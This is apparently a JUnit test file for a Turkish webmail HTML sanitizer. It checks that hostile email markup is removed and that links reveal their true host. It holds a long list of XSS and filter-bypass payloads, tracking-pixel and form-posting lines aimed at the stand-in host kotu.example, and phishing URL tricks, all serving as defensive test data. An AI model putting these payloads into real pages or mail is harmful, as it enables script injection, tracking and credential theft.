package tr.mbs.mailbox.letter;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Locale;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import tr.mbs.mailbox.letter.words.HarmlessHtml;

/** HTML of people who mean harm: nothing of it runs, asks, covers, or fetches. */
class HostileHtmlTest {

  private static final String[] LEFTOVERS = {"script", "javascript", "vbscript", "data:", "onerror", "onload", "onclick",
      "<form", "<input", "<button", "<textarea", "<select", "<iframe", "<frame", "<object", "<embed", "<applet", "<meta",
      "<base", "<link", "<style", "<svg", "<math", "<video", "<audio", "<source", "srcset", "srcdoc", "expression",
      "url(", "@import", "position", "z-index", "behavior", "-moz-binding", "formaction", "kotu.example/p", "<!--", "background=",
      "ping=", "autofocus", "<dialog", "<template", "<noscript", "<marquee", "<portal", "<isindex", "<xml", "id=", "class=",
      "resim/../", "float:", "display", "filter:", "content:"};

  static String[] attacks() {
    return new String[] {
        "<script>x()</script>", "<SCRIPT SRC=//kotu.example/p></SCRIPT>", "<scr<script>ipt>x()</scr</script>ipt>",
        "<script/x>x()</script>", "<script\n>x()", "<<script>x()//<</script>", "<noscript><p title='</noscript><img src=x onerror=x()>'>",
        "<img src=x onerror=x()>", "<img src=\"x\" onerror\n=\n\"x()\">", "<img/src='x'/onerror=x()>", "<body onload=x()>",
        "<p onclick=x()>a", "<p OnClIcK=\"x()\">a", "<a href=\"javascript:x()\">a</a>", "<a href=\" javascript:x()\">a</a>",
        "<a href=\"java\tscript:x()\">a</a>", "<a href=\"java&#10;script:x()\">a</a>", "<a href=\"&#106;avascript:x()\">a</a>",
        "<a href=\"&#x6A;avascript&colon;x()\">a</a>", "<a href=\"JaVaScRiPt:x()\">a</a>", "<a href=\"\u0001javascript:x()\">a</a>",
        "<a href=\"vbscript:x\">a</a>", "<a href=\"data:text/html,x\">a</a>", "<a href=\"data:text/html;base64,eA==\">a</a>",
        "<a href=\"feed:javascript:x()\">a</a>", "<a href=\"view-source:javascript:x()\">a</a>", "<a href=\"blob:x\" ping=\"//kotu.example/p\">a</a>",
        "<img src=\"http://kotu.example/p.gif\">", "<img src=//kotu.example/p.gif>", "<img src=\"\\\\kotu.example\\p.gif\">",
        "<img srcset=\"//kotu.example/p 1x\">", "<img src=\"data:image/svg+xml,<svg onload=x()>\">", "<img lowsrc=//kotu.example/p dynsrc=//kotu.example/p>",
        "<img src=\"resim/../../cikis\">", "<img src=\"/posta/gelen/1/sil\">", "<img src=\"cid:yok\">", "<image src=//kotu.example/p>",
        "<picture><source srcset=//kotu.example/p></picture>", "<input type=image src=//kotu.example/p>",
        "<table background=\"//kotu.example/p\"><tr><td background=//kotu.example/p>a", "<body background=//kotu.example/p>",
        "<style>@import url(//kotu.example/p);</style>", "<style>@import'//kotu.example/p'</style>", "<style>p{background:url(//kotu.example/p)}",
        "<style></style><script>x()</script></style>", "<link rel=stylesheet href=//kotu.example/p>", "<link rel=dns-prefetch href=//kotu.example/p>",
        "<p style=\"background:url(//kotu.example/p)\">a", "<p style=\"background-image:url('//kotu.example/p')\">a",
        "<p style=\"background-color:u\\72l(//kotu.example/p)\">a", "<p style=\"color:expression(x())\">a", "<p style=\"width:exp/**/ression(x())\">a",
        "<p style=\"behavior:url(//kotu.example/p)\">a", "<p style=\"-moz-binding:url(//kotu.example/p)\">a",
        "<p style=\"font-family:'x;background:url(//kotu.example/p)'\">a", "<p style=\"list-style:url(//kotu.example/p)\">a", "<p style=\"cursor:url(//kotu.example/p),auto\">a",
        "<p style=\"content:url(//kotu.example/p)\">a", "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999\">a</div>",
        "<div style=\"position:absolute\">a</div>", "<div style=\"pos\\69tion:fixed\">a</div>", "<div style=\"float:left;display:none;filter:blur(1px)\">a</div>",
        "<svg onload=x()>", "<svg><script>x()</script></svg>", "<svg><a xlink:href=\"javascript:x()\"><text>a</text></a></svg>",
        "<svg><image href=//kotu.example/p></svg>", "<svg><use href=\"//kotu.example/p#x\"></svg>", "<svg><style><img src=x onerror=x()></style></svg>",
        "<svg><foreignObject><iframe srcdoc=x></iframe></foreignObject></svg>", "<svg><animate onbegin=x() attributeName=x></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=x()>", "<math href=\"javascript:x()\">a</math>",
        "<meta http-equiv=refresh content=\"0;url=//kotu.example/p\">", "<meta http-equiv=\"Content-Security-Policy\" content=\"x\">", "<base href=\"//kotu.example/p\">",
        "<iframe src=//kotu.example/p></iframe>", "<iframe srcdoc=\"<script>x()</script>\"></iframe>", "<frameset><frame src=//kotu.example/p></frameset>",
        "<object data=//kotu.example/p></object>", "<embed src=//kotu.example/p>", "<applet code=x></applet>", "<video src=//kotu.example/p poster=//kotu.example/p></video>",
        "<audio src=//kotu.example/p autoplay></audio>", "<form action=//kotu.example/p><input name=parola><button formaction=//kotu.example/p>a</button></form>",
        "<textarea autofocus onfocus=x()>a", "<select><option>a</select>", "<dialog open>a</dialog>", "<template><script>x()</script></template>",
        "<marquee onstart=x()>a</marquee>", "<details open ontoggle=x()>a</details>", "<portal src=//kotu.example/p></portal>", "<isindex action=//kotu.example/p>",
        "<!--[if IE]><script>x()</script><![endif]-->", "<!-- --!><script>x()</script>", "<![CDATA[<script>x()</script>]]>", "<?xml version=1?><script>x()</script>",
        "<xmp><script>x()</script></xmp>", "<plaintext><script>x()", "<title><script>x()</script></title>", "<p id=x class=btn>a", "<a name=x>a</a>",
        "<p title=\"<script>x()</script>\">a", "<p align=\"left;background:url(//kotu.example/p)\">a", "<td width=\"1;expression(x())\">a",
        "<font color=\"red;background:url(//kotu.example/p)\">a</font>", "<a href=\"http://x\" target=\"_top\" rel=\"opener\">a</a>", "\u0000<script>x()</script>",
        "<scr\u0000ipt>x()</scr\u0000ipt>", "<ſcript>x()</ſcript>", "<İframe src=//kotu.example/p>", "+ADw-script+AD4-x()+ADw-/script+AD4-".replace("script", "b"),
        "<a href=\"https://kotu.example\" onmouseover=x()>a</a>", "<a href='tel:1' style='position:fixed'>a</a>"};
  }

  @ParameterizedTest
  @MethodSource("attacks")
  void nothingOfItIsLeft(String attack) {
    HarmlessHtml harmless = HarmlessHtml.of("<p>Önce</p>" + attack + "<p>Sonra</p>", Map.of("foto", "2"));
    String markup = markup(harmless.html());
    for (String leftover : LEFTOVERS) {
      assertThat(markup).doesNotContain(leftover);
    }
    assertThat(markup).doesNotContainPattern("<img(?![^>]*src=\"resim/[0-9.]+\")").doesNotContainPattern("\\son[a-z]+=");
    assertThat(harmless.html()).startsWith("<p>Önce</p>");
  }

  /** What a browser takes for elements and their attributes; the words between are shown as words. */
  private static String markup(String html) {
    StringBuilder markup = new StringBuilder();
    var tag = java.util.regex.Pattern.compile("<[^>]*>").matcher(html);
    while (tag.find()) {
      markup.append(tag.group().replaceAll("\\s(alt|title)=\"[^\"]*\"", "")).append('\n');
    }
    return markup.toString().toLowerCase(Locale.ROOT);
  }

  @Test
  void linksLeadOutsideWithoutSayingWhoCame() {
    String html = HarmlessHtml.of("<a href='https://kotu.example/x?a=1&b=2' target=_self>buraya</a>", Map.of()).html();
    assertThat(html).contains("href=\"https://kotu.example/x?a&#61;1&amp;b&#61;2\"", "target=\"_blank\"",
        "rel=\"noopener noreferrer nofollow\"", "buraya</a> (kotu.example)");
    assertThat(HarmlessHtml.of("<a href='https://abc.example'>abc.example</a>", Map.of()).text()).isEqualTo("abc.example");
    assertThat(HarmlessHtml.of("<a href='mailto:ali@b.example'>Ali</a>", Map.of()).text()).isEqualTo("Ali (ali@b.example)");
    assertThat(HarmlessHtml.of("<a href='https://banka.example@kotu.example/'>banka</a>", Map.of()).text()).isEqualTo("banka (kotu.example)");
  }

  /** Addresses that java.net.URI refuses, or reads otherwise than a browser. */
  @ParameterizedTest
  @CsvSource(delimiter = '|', value = {
      "https://banka.example\\@kotu.example/ | banka.example", "https://banka.example@x@kotu.example:8443/a b | kotu.example",
      "https://banka.example{}@kotu.example | kotu.example", "https:///\\kotu.example?x=banka.example | kotu.example",
      "https://banka.example%40kotu.example | ", "https://b%61nka.example/%zz | banka.example", "https://kotu。example | kotu.example",
      "https://ＫＯＴＵ.example#banka | kotu.example", "https://ko_tu.example:80 | ko_tu.example", "https://[::1]:80/ | [::1]",
      "https://çarşı.example/ğ | çarşı.example", "https://@/ | ", "https://a b.example | ", "https:// | ",
      "mailto:ali@b.example?subject=banka | ali@b.example", "tel:+90%20312 | +90 312"})
  void aLinkSaysWhereABrowserGoes(String address, String host) {
    HarmlessHtml harmless = HarmlessHtml.of("<a href=\"" + address + "\">buraya</a>", Map.of());
    assertThat(harmless.text()).isEqualTo(host == null ? "buraya" : "buraya (" + host + ")");
    assertThat(harmless.html().contains("href=")).isEqualTo(host != null);
  }

  @Test
  void ofALongHostTheEndIsSaid() {
    assertThat(HarmlessHtml.of("<a href='https://banka.example." + "a.".repeat(100) + "kotu.example'>banka</a>", Map.of()).text())
        .startsWith("banka (…").endsWith("a.kotu.example)").hasSizeLessThan(100);
  }

  @Test
  void whatAnHonestMailNeedsStays() {
    String html = HarmlessHtml.of("<h2>Duyuru</h2><table width=\"600\" bgcolor=\"#eeeeee\"><tr><td style=\"color:#ff0000;padding:4px\">"
        + "<b>Köy</b> <i>yolu</i></td></tr></table><ul><li>bir</li></ul><img src=\"cid:foto%401\" alt=\"Yol\">", Map.of("foto@1", "2.1")).html();
    assertThat(html).contains("<h2>Duyuru</h2>", "width=\"600\"", "bgcolor=\"#eeeeee\"", "color:#ff0000", "padding:4px", "<b>Köy</b>",
        "<li>bir</li>", "<img src=\"resim/2.1\" alt=\"Yol\" />");
  }
}
